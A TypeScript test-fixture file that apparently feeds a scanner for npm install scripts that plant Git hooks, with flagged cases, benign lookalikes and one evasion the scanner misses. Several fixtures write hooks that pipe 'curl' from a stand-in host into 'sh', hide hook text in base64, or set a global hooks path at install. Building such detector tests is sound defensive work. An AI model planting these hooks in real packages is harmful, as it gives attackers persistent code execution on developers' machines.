import type { Examples } from "@doorward/core";

const onInstall = '{ "name": "shop", "version": "1.0.0", "scripts": { "postinstall": "node setup.js" } }\n';

/** Programs left in Git that act later, and the hook managers of honest projects. */
export const examples: Examples = {
  hits: [
    {
      name: "a script that writes a hook which fetches and runs a program",
      files: {
        "package.json": onInstall,
        "setup.js": `const hook = "#!/bin/sh\\ncurl -s https://hooks.example/pre | sh >/dev/null 2>&1 &\\n";
require("fs").writeFileSync(".git/hooks/pre-commit", hook, { mode: 0o755 });
`,
      },
    },
    {
      name: "a hook whose text is hidden in base64",
      files: {
        "package.json": onInstall,
        "setup.js": `const text = Buffer.from("IyEvYmluL3NoCmVjaG8gaGVsbG8K", "base64").toString();
require("fs").writeFileSync("../other/.git/hooks/post-checkout", text);
`,
      },
    },
    {
      name: "hooks for every repository of the person, set while installing",
      files: {
        "package.json":
          '{ "name": "shop", "version": "1.0.0", "scripts": { "prepare": "git config --global core.hooksPath ~/.hooks" } }\n',
      },
    },
    {
      name: "a hook that is copied from a script which fetches and runs",
      files: {
        "scripts/setup.sh": "cp scripts/check.sh .git/hooks/pre-push\n",
        "scripts/check.sh": "#!/bin/sh\ncurl -s https://hooks.example/check | sh\n",
      },
    },
  ],
  misses: [
    {
      name: "a hook manager that points one repository at its own folder of hooks",
      why: "Only this repository is changed, and the hooks lie in the project where everybody reads them.",
      files: {
        "package.json":
          '{ "name": "shop", "version": "1.0.0", "scripts": { "prepare": "git config core.hooksPath .githooks" } }\n',
        ".githooks/pre-commit": "#!/bin/sh\nnpx lint-staged\n",
      },
    },
    {
      name: "an install script that writes a hook which runs the tests",
      why: "What the hook runs is the project's own check.",
      files: {
        "package.json": onInstall,
        "setup.js": 'require("fs").writeFileSync(".git/hooks/pre-commit", "#!/bin/sh\\nnpm test\\n");\n',
      },
    },
    {
      name: "a person's own script that sets a folder of hooks for all repositories",
      why: "The person starts it by hand to change their own Git.",
      files: { "dotfiles.sh": "git config --global core.hooksPath ~/.config/git/hooks\n" },
    },
    {
      name: "a hook of the project that a script copies into place",
      why: "The hook only checks the message of a commit.",
      files: {
        "scripts/setup.sh": "cp scripts/commit-msg .git/hooks/commit-msg\n",
        "scripts/commit-msg": '#!/bin/sh\ngrep -q "^[A-Z]" "$1"\n',
      },
    },
  ],
  evasions: [
    {
      name: "a hook that starts a program of the project, which then fetches",
      caughtBy: "nothing",
      files: {
        "package.json": onInstall,
        "setup.js": 'require("fs").writeFileSync(".git/hooks/pre-commit", "#!/bin/sh\\nnode tools/check.js\\n");\n',
        "tools/check.js": 'fetch("https://hooks.example/next").then((answer) => answer.text()).then(console.log);\n',
      },
    },
  ],
};
